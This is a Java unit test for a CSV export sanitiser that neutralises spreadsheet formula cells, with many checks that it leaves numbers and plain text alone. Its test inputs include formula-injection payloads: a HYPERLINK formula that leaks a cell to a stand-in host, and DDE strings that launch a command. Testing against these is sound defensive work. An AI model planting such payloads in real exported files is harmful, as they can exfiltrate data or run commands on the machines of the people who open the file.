package com.huiyi31.cli.imports;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Which cells a spreadsheet would run as formulas, and what becomes of them (OWASP's CSV injection guidance). */
class ResultCsvTest {

  @Test
  void aCellStartingAFormulaStartsWithAQuote() {
    assertThat(ResultCsv.forSpreadsheet("=HYPERLINK(\"http://x/?leak=\"&A2,\"y\")"))
        .isEqualTo("'=HYPERLINK(\"http://x/?leak=\"&A2,\"y\")");
    assertThat(ResultCsv.forSpreadsheet("+1+cmd|' /C calc'!A0")).isEqualTo("'+1+cmd|' /C calc'!A0");
    assertThat(ResultCsv.forSpreadsheet("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
    assertThat(ResultCsv.forSpreadsheet("@SUM(1+1)")).isEqualTo("'@SUM(1+1)");
    assertThat(ResultCsv.forSpreadsheet("\t=1+1")).isEqualTo("'\t=1+1");
    assertThat(ResultCsv.forSpreadsheet("\r=1+1")).isEqualTo("'\r=1+1");
    assertThat(ResultCsv.forSpreadsheet("-")).isEqualTo("'-");
  }

  @Test
  void aFormulaAfterLeadingWhiteSpaceOrInFullwidthCharactersIsOneToo() {
    assertThat(ResultCsv.forSpreadsheet("  =1+1")).isEqualTo("'  =1+1");
    assertThat(ResultCsv.forSpreadsheet("\n@SUM(1)")).isEqualTo("'\n@SUM(1)");
    assertThat(ResultCsv.forSpreadsheet("\u3000=1+1")).as("ideographic space").isEqualTo("'\u3000=1+1");
    assertThat(ResultCsv.forSpreadsheet("\u00a0=1+1")).as("no-break space").isEqualTo("'\u00a0=1+1");
    assertThat(ResultCsv.forSpreadsheet("＝HYPERLINK(\"http://x\")")).isEqualTo("'＝HYPERLINK(\"http://x\")");
    assertThat(ResultCsv.forSpreadsheet("＋1")).isEqualTo("'＋1");
    assertThat(ResultCsv.forSpreadsheet("－1")).isEqualTo("'－1");
    assertThat(ResultCsv.forSpreadsheet("＠A1")).isEqualTo("'＠A1");
  }

  @Test
  void numbersNegativeOnesAndPhoneNumbersAreKept() {
    for (String number : new String[] {"-5", "-1.5", "+86 139-1234-5678", "+8613912345678", "-(1)", " -5", "-5%",
        "-1,234.50", "5"}) {
      assertThat(ResultCsv.forSpreadsheet(number)).as(number).isEqualTo(number);
    }
  }

  @Test
  void otherCellsAreKept() {
    for (String cell : new String[] {"张晓明", "a=b", "x@example.com", "Foo, Inc.", "", "'=already quoted", " text"}) {
      assertThat(ResultCsv.forSpreadsheet(cell)).as(cell).isEqualTo(cell);
    }
    assertThat(ResultCsv.forSpreadsheet(null)).isNull();
  }
}
